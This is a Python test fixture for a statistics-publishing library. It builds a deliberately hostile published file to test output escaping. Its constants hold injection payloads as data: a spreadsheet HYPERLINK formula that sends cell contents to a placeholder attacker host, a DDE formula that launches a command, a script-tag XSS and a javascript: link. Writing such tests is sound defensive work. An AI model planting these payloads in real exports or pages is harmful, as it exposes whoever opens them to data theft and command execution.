"""A published file as the worst publisher would have it: titles, labels and words that mean something elsewhere."""

from __future__ import annotations

import datetime as dt
from pathlib import Path

from tests.aggregates_world import MemoryLedger
from tests.unit.aggregates.ledger.ledgers import END, NOW, of, opened, settlement

from quietcount_aggregates.catalogue import AskedTable
from quietcount_aggregates.description import Description, Label
from quietcount_aggregates.ledger.entries import StateLost
from quietcount_aggregates.publication.publication import publish
from quietcount_schemas.periods import Period

__all__ = ["BACKSLASH", "FORMULA", "LABELS", "PUBLISHER", "empty_file", "hostile_file"]

FORMULA = '=HYPERLINK("https://evil.example/?"&A1;"Click")'
PUBLISHER = f'{FORMULA}\r\n<script>alert(1)</script> | [x](javascript:alert(1)) "Ромашка"'
BACKSLASH = "'quoted'; \"twice\" \\ and ;=1+1"
LABELS = {"": "Colour, or «цвет»", "RED": FORMULA, "GREEN": "1-2", "OTHER": "+7 «ред»"}

_ASKED = of(
    "asked",
    title="@SUM(1+1)*cmd|' /C calc'!A0",
    description=f"-1+1\nSecond line | with a bar; {BACKSLASH}",
    by=["colour", "urgent"],
    coarser=(AskedTable("quarterly", 0.25, period=Period.QUARTER, where={"colour": ["RED"]}),),
)
_SAID = Description(
    grace=dt.timedelta(days=7),
    publisher=PUBLISHER,
    licence="CC-BY-4.0",
    contact="https://helpline.example/?a=1&b=2",
    citation="=1+1",
    labels=tuple(Label("asked", "colour", "en", symbol, text) for symbol, text in LABELS.items()),
)


def hostile_file(path: Path, *, months: int = 5) -> Path:
    """Publish at `path` so many months of a population, in the midst of which the state was lost."""
    ledger = opened(MemoryLedger(), "2")
    ledger.declare([_ASKED], ledger.chain.opened.lifetime_epsilon, NOW, end=END)
    ledger.describe(_SAID, NOW)
    for month in range(1, months + 1):
        at = dt.datetime(2024, month + 1, 8, 6, 30, tzinfo=dt.UTC)
        bodies = settlement(_ASKED, month)
        ledger.append([body for body in bodies if (body.statistic, body.period_start) not in ledger.chain.withheld], at)
        if month == 2:
            ledger.append([StateLost(1)], at)
    publish(ledger.chain, path)
    return path


def empty_file(path: Path) -> Path:
    """Publish at `path` what is there before the first release, and before anybody described it."""
    ledger = opened(MemoryLedger(), "2")
    ledger.declare([_ASKED], ledger.chain.opened.lifetime_epsilon, NOW, end=END)
    publish(ledger.chain, path)
    return path
